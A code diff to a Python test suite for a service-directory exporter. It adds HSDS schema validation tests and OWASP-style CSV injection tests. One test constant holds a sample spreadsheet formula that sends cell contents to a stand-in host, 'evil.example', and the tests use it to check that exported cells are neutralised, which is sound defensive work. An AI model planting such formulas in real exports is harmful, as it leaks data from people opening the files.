@@ -3,18 +3,20 @@
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 import json
 import uuid
 from collections.abc import Iterator
+from functools import lru_cache
 from pathlib import Path
 from typing import Any
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given
+from hypothesis import strategies as st
 from jsonschema import Draft202012Validator, FormatChecker
-from referencing import Registry, Resource
-from referencing.jsonschema import DRAFT202012
 
 from abikaart import export
 from abikaart.cli import main
@@ -31,8 +33,8 @@ from helpers import (
     make_directory,
 )
 
-HSDS = REPO.parent / "shared" / "hsds-3.0" / "schema"
-"""Open Referral's own schemas, beside the repository (../shared), as the issue asks."""
+HSDS = Path(__file__).resolve().parent / "data" / "hsds-3.0"
+"""Open Referral's compiled HSDS 3.0 service schema, vendored with its licence (see its README.md)."""
 
 
 @pytest.fixture(scope="module")
@@ -47,14 +49,12 @@ def bundled() -> Directory:
     return result.directory
 
 
-def _validator(compiled: str) -> Draft202012Validator:
-    """A validator for one compiled HSDS schema; every $ref resolves to the local files, never the network."""
-    resources = [
-        (path.name, Resource.from_contents(json.loads(path.read_text()), default_specification=DRAFT202012))
-        for path in [*HSDS.glob("*.json"), *(HSDS / "compiled").glob("*.json")]
-    ]
-    schema = json.loads((HSDS / "compiled" / compiled).read_text())
-    return Draft202012Validator(schema, registry=Registry().with_resources(resources), format_checker=FormatChecker())
+@lru_cache(maxsize=1)
+def _validator() -> Draft202012Validator:
+    """A validator for Open Referral's compiled service schema: self-contained, so nothing is fetched."""
+    schema = json.loads((HSDS / "compiled" / "service.json").read_text(encoding="utf-8"))
+    Draft202012Validator.check_schema(schema)
+    return Draft202012Validator(schema, format_checker=FormatChecker())
 
 
 def _objects(value: Any) -> Iterator[dict[str, Any]]:
@@ -70,27 +70,56 @@ def _objects(value: Any) -> Iterator[dict[str, Any]]:
 # HSDS -------------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("lang", LANGS)
+def _schema_errors(record: dict[str, Any]) -> list[str]:
+    return [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in _validator().iter_errors(record)]
+
+
 @pytest.mark.parametrize("which", ["shelter", "bundled"])
-def test_hsds_validates_against_open_referral_compiled_schemas(
-    lang: str, which: str, request: pytest.FixtureRequest
+def test_written_hsds_files_validate_against_open_referral_compiled_schema(
+    which: str, request: pytest.FixtureRequest, tmp_path: Path
 ) -> None:
+    """Each hsds-<lang>.json as written to disk, every service and its nested organization, phones, schedules,
+    locations and terms, is what Open Referral's schema accepts."""
     directory: Directory = request.getfixturevalue(which)
-    services = export.to_hsds(directory, lang)
-    assert len(services) == len(directory.services) > 0
-    service_validator, organisation_validator = _validator("service.json"), _validator("organization.json")
-    for service in services:
-        errors = [f"{list(e.absolute_path)}: {e.message}" for e in service_validator.iter_errors(service)]
-        assert not errors, f"{service['name']}: {errors}"
-        errors = [e.message for e in organisation_validator.iter_errors(service["organization"])]
-        assert not errors, errors
+    written = export.write_exports(directory, tmp_path, formats=("hsds",))
+    assert sorted(path.name for path in written) == sorted(f"hsds-{lang}.json" for lang in LANGS)
+    for path in written:
+        services = json.loads(path.read_text(encoding="utf-8"))
+        assert len(services) == len(directory.services) > 0
+        for service in services:
+            assert service["organization"]["name"], path.name
+            errors = _schema_errors(service)
+            assert not errors, f"{path.name}: {service['name']}: {errors}"
 
 
-def test_the_schema_check_is_not_vacuous() -> None:
-    validator = _validator("service.json")
-    assert not validator.is_valid({"id": "not-a-uuid", "name": "x", "status": "active"})
-    assert not validator.is_valid({"id": str(uuid.uuid4()), "name": "x", "status": "closed"})
-    assert not validator.is_valid({"id": str(uuid.uuid4()), "name": "x"})
+@pytest.mark.parametrize(("breakage", "where"), [
+    pytest.param(lambda s: s.update(id="not-a-uuid"), "id", id="id-not-a-uuid"),
+    pytest.param(lambda s: s.update(status="closed"), "status", id="status-not-in-enum"),
+    pytest.param(lambda s: s.pop("name"), "", id="name-missing"),
+    pytest.param(lambda s: s["organization"].pop("name"), "organization", id="organization-name-missing"),
+    pytest.param(lambda s: s["phones"][0].pop("number"), "phones/0", id="phone-number-missing"),
+    pytest.param(lambda s: s["schedules"][0].update(byday=7), "schedules/0/byday", id="byday-not-text"),
+    pytest.param(lambda s: s["service_at_locations"][0]["location"].update(latitude="north"),
+                 "service_at_locations/0/location/latitude", id="latitude-not-a-number"),
+])
+def test_the_schema_check_rejects_what_open_referral_rejects(
+    shelter: Directory, breakage: Any, where: str
+) -> None:
+    """The vendored schema is live down to nested objects, or the test above would prove nothing."""
+    [record] = [s for s in export.to_hsds(shelter, "en") if s["name"] == "Shelter"]
+    assert _schema_errors(record) == []
+    broken = json.loads(json.dumps(record))
+    breakage(broken)
+    errors = _schema_errors(broken)
+    assert errors and all(error.startswith(where) for error in errors), errors
+
+
+def test_the_vendored_schema_is_open_referrals_file_unchanged() -> None:
+    """Its README names the upstream commit and checksum, and the licence travels with it."""
+    readme = (HSDS / "README.md").read_text(encoding="utf-8")
+    digest = hashlib.sha256((HSDS / "compiled" / "service.json").read_bytes()).hexdigest()
+    assert f"sha256 `{digest}`" in readme
+    assert "Attribution-ShareAlike 4.0" in (HSDS / "LICENSE").read_text(encoding="utf-8")
 
 
 def test_hsds_is_in_the_language_asked_for(bundled: Directory) -> None:
@@ -231,8 +260,13 @@ def test_json_has_every_service_and_only_verified_contacts(shelter: Directory) -
     assert set(data["taxonomies"]) == {"needs", "audiences", "counties", "channels", "languages"}
 
 
+def _csv_rows(text: str) -> list[dict[str, str]]:
+    """The CSV as a program reads it: the csv module, then one leading apostrophe dropped from each cell."""
+    return [{key: export.csv_value(value) for key, value in row.items()} for row in csv.DictReader(io.StringIO(text))]
+
+
 def test_csv_has_one_row_per_service_in_the_language(shelter: Directory) -> None:
-    rows = list(csv.DictReader(io.StringIO(export.to_csv(shelter, "ru"))))
+    rows = _csv_rows(export.to_csv(shelter, "ru"))
     assert [row["id"] for row in rows] == ["turvakodu-varjupaik", "turvakodu-noustamine", "turvakodu-tugigrupp"]
     first = rows[0]
     assert first["organisation"] == "НКО Безопасный дом"
@@ -245,6 +279,72 @@ def test_csv_has_one_row_per_service_in_the_language(shelter: Directory) -> None
     assert rows[2]["counties"] == "Вся Эстония"
     assert rows[2]["video"] == "https://turvakodu.example.ee/video"
     assert rows[1]["hours"].count(" | ") == 2
+
+
+# CSV injection (OWASP): no cell a spreadsheet would run --------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Click")'
+
+
+def _formula_like(cell: str) -> bool:
+    """What a spreadsheet may read as a formula: a first character (after spaces) in OWASP's list."""
+    return cell.lstrip(" ")[:1] in {"=", "+", "-", "@", "\t", "\r", "\n", "\0"}
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("+372 5123 4567", "'+372 5123 4567"),
+    (FORMULA, "'" + FORMULA),
+    ("@SUM(1+1)", "'@SUM(1+1)"),
+    ("-2+3", "'-2+3"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("  =1+1", "'  =1+1"),
+    ("'quoted'", "''quoted'"),  # so that dropping one apostrophe always gives the value back
+    ("116 006", "116 006"),
+    ("Tallinn, Pärnu mnt 1", "Tallinn, Pärnu mnt 1"),
+    ("a=b; c+d", "a=b; c+d"),
+    ("", ""),
+])
+def test_csv_cell_marks_formula_starts_as_text(value: str, cell: str) -> None:
+    assert export.csv_cell(value) == cell
+    assert export.csv_value(cell) == value
+
+
+@given(st.text())
+def test_csv_cell_never_starts_a_formula_and_loses_nothing(value: str) -> None:
+    cell = export.csv_cell(value)
+    assert not _formula_like(cell)
+    assert export.csv_value(cell) == value
+
+
+def test_csv_export_never_starts_a_cell_with_a_formula(tmp_path: Path) -> None:
+    """Formulas typed into data text and every phone number are written as text, and read back unchanged."""
+    make_directory(tmp_path / "directory")
+    service = tmp_path / "directory" / "services" / "turvakodu-tugigrupp.yaml"
+    hostile = (service.read_text(encoding="utf-8")
+               .replace("name: {et: Tugigrupp, en: Support group}", f"name: {{et: '{FORMULA}', en: '@SUM(1+1)'}}")
+               .replace("description: {et: Tugigrupp vägivalla kogenutele.,",
+                        "description: {et: '-2+3 tugigrupp',"))
+    assert hostile.count("=HYPERLINK") == hostile.count("@SUM") == hostile.count("-2+3") == 1
+    service.write_text(hostile, encoding="utf-8")
+    directory = load_directory(tmp_path / "directory").directory
+    assert directory is not None
+    written = export.write_exports(directory, tmp_path / "out", formats=("csv",))
+    assert len(written) == len(LANGS)
+    for path in written:
+        raw = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+        risky = [(line, cell) for line, row in enumerate(raw, start=1) for cell in row if _formula_like(cell)]
+        assert risky == [], f"{path.name}: cells a spreadsheet would run: {risky}"
+        rows = _csv_rows(path.read_text(encoding="utf-8-sig"))
+        [group] = [row for row in rows if row["id"] == "turvakodu-tugigrupp"]
+        lang = path.stem.removeprefix("abikaart-")
+        expected = ("@SUM(1+1)", "A support group for survivors.") if lang == "en" else (FORMULA, "-2+3 tugigrupp")
+        assert (group["name"], group["description"]) == expected  # Russian falls back to Estonian
+        [shelter_row] = [row for row in raw[1:] if row[0] == "turvakodu-varjupaik"]
+        assert shelter_row[CSV_PHONE] == "'+372 5123 4567"
+
+
+CSV_PHONE = export.CSV_COLUMNS.index("phone")
 
 
 # CLI ---------------------------------------------------------------------------------------------------------
@@ -281,3 +381,12 @@ def test_cli_writes_nothing_from_broken_data(tmp_path: Path) -> None:
     assert result.exit_code == 1
     assert "narnia" in result.output
     assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize("page", ["open-data.md", "open-data.ru.md", "open-data.en.md"])
+def test_open_data_page_documents_the_apostrophe_as_the_code_writes_it(page: str) -> None:
+    """Partners read how to get values back on the open-data page: it must match what `csv_cell` does."""
+    text = (REPO / "docs" / page).read_text(encoding="utf-8")
+    assert f"`{export.csv_cell('+372 5123 4567')}`" in text
+    assert f"value.removeprefix(\"{export.CSV_TEXT_MARK}\")" in text
+    assert all(f"`{mark}`" in text for mark in ("=", "+", "-", "@"))
